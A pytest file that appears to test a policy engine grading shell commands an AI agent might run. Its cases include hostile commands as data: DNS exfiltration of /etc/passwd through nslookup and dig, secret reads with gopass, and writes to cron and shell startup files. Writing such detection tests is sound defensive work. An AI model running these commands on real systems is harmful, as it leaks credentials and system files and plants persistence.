"""A hostile review of the twelfth pass (review12): the holes the eleventh left, and what
the new read forms and conventions hid.

Each case is a form the engine let through at a lower level than what it does, with the
plain form beside it that must keep its level (no false positive bought).
"""

from __future__ import annotations

import pytest
from helpers.policy_corpus import verdict

from aiperm_tui.config import Config
from aiperm_tui.policy import PolicyEngine

ENGINE = PolicyEngine(Config())


def _rules(cmd: str) -> set[str]:
    return {f.rule for f in ENGINE.decide(cmd).findings}


# A tool with single-dash long options (Go's flag package, urfave/cli) reads `-chars` as
# one option: a danger rule's exemption `-c` (copy to the clipboard) is not given by it.
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected", "rule"),
    [
        ("gopass show -chars 1,2 db/root", "typed", "pass.show"),  # was action
        ("gopass show db/root", "typed", "pass.show"),
        ("gopass show -c db/root", "action", None),  # copies it, prints nothing
        ("gopass show -clip db/root", "action", None),
        ("pass show -c prod/db", "action", None),  # getopt: -c is the clipboard
        ("nats-server -http_port 8222 -js", "action", "nats_server.run"),  # was unknown
        ("nats-server -help", "none", None),
        ("nats-server --help", "none", None),
    ],
)
def test_single_dash_long_option_is_no_letter_cluster(
    cmd: str, expected: str, rule: str | None
) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, _rules(cmd))
    if rule is not None:
        assert rule in _rules(cmd), (cmd, _rules(cmd))


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # getopt clusters are still read as letters (the exemption holds)
        ("rsync -avn /srv/ backup:/srv/", "none"),
        ("tar -tvf /srv/a.tar", "none"),
    ],
)
def test_getopt_clusters_keep_their_letters(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, _rules(cmd))


# A resolver reading its queries on stdin sends each line it is fed as a DNS query, as
# `dig -f FILE` does: a system or home file, or another command's output, leaves.
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("nslookup < /etc/passwd", "typed"),  # was none
        ("nslookup - 192.0.2.53 < /etc/hosts", "typed"),  # was none
        ("cat /etc/passwd | nslookup", "typed"),  # was none
        ("awk -F: '{print $1}' /etc/passwd | nslookup -", "typed"),
        ("dig -f - < /etc/passwd", "typed"),  # was none
        ("dig -f /etc/passwd", "typed"),
        ("nslookup < names.txt", "none"),
        ("cat names.txt | nslookup", "none"),
        ("echo example.com | nslookup", "none"),
        ("nslookup <<< example.com", "none"),
        ("nslookup example.com < /etc/passwd", "none"),  # a name given: stdin unread
        ("dig -f names.txt +short", "none"),
    ],
)
def test_queries_fed_on_stdin_leave_the_host(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, _rules(cmd))


# An output option naming a file writes it, judged by its class as a redirection to it
# is, for a tool whose read rule excludes the option and for a tool nobody describes.
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("thin_dump -o /etc/cron.d/x /dev/mapper/vg0-pool_tmeta", "typed"),  # was action
        ("cache_dump --output=/root/.bashrc /dev/mapper/vg0-cmeta", "typed"),  # was action
        ("thin_dump /dev/mapper/vg0-pool_tmeta > /etc/cron.d/x", "typed"),
        ("thin_dump -o /srv/meta.xml /dev/mapper/vg0-pool_tmeta", "action"),
        ("thin_dump /dev/mapper/vg0-pool_tmeta", "none"),
        ("zztool status -o /etc/cron.d/x", "typed"),  # was action
        ("zztool sync --log-file /etc/profile.d/x.sh", "typed"),  # was action
        ("zztool sync -o /srv/report.txt", "action"),
    ],
)
def test_output_option_path_is_judged_by_class(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, _rules(cmd))
